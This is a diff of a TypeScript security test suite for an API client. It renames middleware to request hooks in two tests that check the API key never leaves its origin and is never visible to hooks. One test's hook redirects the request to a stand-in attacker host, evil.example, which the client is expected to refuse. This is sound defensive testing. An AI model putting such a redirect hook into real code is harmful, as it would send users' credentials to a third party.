@@ -255,14 +255,14 @@ export const security = group('security', [
   },
   {
     id: 335,
-    name: 'a middleware sends the request to another origin',
+    name: 'a hook sends the request to another origin',
     expected: 'refused unsent: the key must not leave the origin',
     observed: 'ConfigurationError; 0 sent',
     run: async () => {
       const { fetch, at } = scripted(page)
       const client = makeClient({
         fetch,
-        middleware: [(request, next) => next(new Request('https://evil.example/', request))],
+        hooks: { beforeRequest: [({ request }) => new Request('https://evil.example/', request)] },
       })
       const { error } = await outcomeOf(client.microblog.search({ query: 'rust' }))
       return `${ending(error)}; ${at.length} sent`
@@ -270,25 +270,26 @@ export const security = group('security', [
   },
   {
     id: 336,
-    name: 'a middleware that prints what it sees',
+    name: 'a hook that prints what it sees',
     expected: 'it never sees the key, but the service gets it',
-    observed: 'answered; the middleware saw no key, the service did',
+    observed: 'answered; the hook saw no key, the service did',
     run: async () => {
       let seen = ''
       const server = await rawServer((socket) => void socket.end(http('200 OK', JSON.stringify(success))))
       const client = makeClient({
         baseUrl: server.baseUrl,
-        middleware: [
-          (request, next) => {
-            seen += JSON.stringify([...request.headers])
-            return next(request)
-          },
-        ],
+        hooks: {
+          beforeRequest: [
+            ({ request, options }) => {
+              seen += JSON.stringify([...request.headers]) + inspect(options, { showHidden: true })
+            },
+          ],
+        },
       })
       const { error } = await outcomeOf(client.microblog.search({ query: 'rust' }))
       await server.close()
       const there = server.requests.join().includes(`Bearer ${apiKey}`)
-      return `${ending(error)}; the middleware saw ${seen.includes(apiKey) ? 'the' : 'no'} key, the service ${there ? 'did' : 'did not'}`
+      return `${ending(error)}; the hook saw ${seen.includes(apiKey) ? 'the' : 'no'} key, the service ${there ? 'did' : 'did not'}`
     },
   },
 ])
